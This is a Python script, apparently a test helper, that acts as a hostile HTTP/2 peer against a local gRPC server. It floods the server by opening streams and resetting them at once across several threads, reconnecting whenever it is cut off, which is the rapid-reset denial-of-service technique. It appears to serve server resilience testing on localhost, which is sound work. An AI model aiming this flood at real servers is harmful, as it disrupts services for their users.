"""A hostile peer in a separate process: begins streams and resets them at once, frame by frame."""

import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = (8).to_bytes(4, "big")
EMPTY_MESSAGE = bytes(5)
AT_ONCE = 100
PAUSE_S = 0.001


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Encodes an HTTP/2 frame."""
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def headers(path: str) -> bytes:
    """Encodes a call's headers without the dynamic table, so neither side keeps state."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(b"\x10" + text(name) + text(value) for name, value in fields.items())


def text(value: str) -> bytes:
    """Encodes a header text of at most 126 characters."""
    return bytes([len(value)]) + value.encode()


def connect(port: int) -> socket.socket:
    """Opens an HTTP/2 connection; a thread reads and discards the answers."""
    peer = socket.create_connection(("127.0.0.1", port))
    peer.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))
    threading.Thread(target=forget, args=(peer,), daemon=True).start()
    return peer


def forget(peer: socket.socket) -> None:
    """Reads and discards bytes until the connection ends."""
    try:
        while peer.recv(65_536):
            pass
    except OSError:
        return


def flood(port: int, path: str, resets: int, seconds: float) -> None:
    """Begins and resets streams at an even rate, and reconnects whenever the server ends the connection."""
    block, peer, stream, sent = headers(path), connect(port), 1, 0
    started = time.monotonic()
    while (passed := time.monotonic() - started) < seconds:
        due = min(int(passed / seconds * resets) - sent, AT_ONCE)
        if due <= 0:
            time.sleep(PAUSE_S)  # this process does nothing else, so it may block
            continue
        one = [
            frame(HEADERS, END_HEADERS, at, block)
            + frame(DATA, END_STREAM, at, EMPTY_MESSAGE)
            + frame(RST_STREAM, 0, at, CANCEL)
            for at in range(stream, stream + 2 * due, 2)
        ]
        stream, sent = stream + 2 * due, sent + due
        try:
            peer.sendall(b"".join(one))
        except OSError:
            peer, stream = connect(port), 1


def main() -> None:
    """Floods as the command line says: PORT PATH RESETS SECONDS CONNECTIONS."""
    port, path, resets, seconds, connections = sys.argv[1:]
    share = int(resets) // int(connections)
    threads = [
        threading.Thread(target=flood, args=(int(port), path, share, float(seconds))) for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
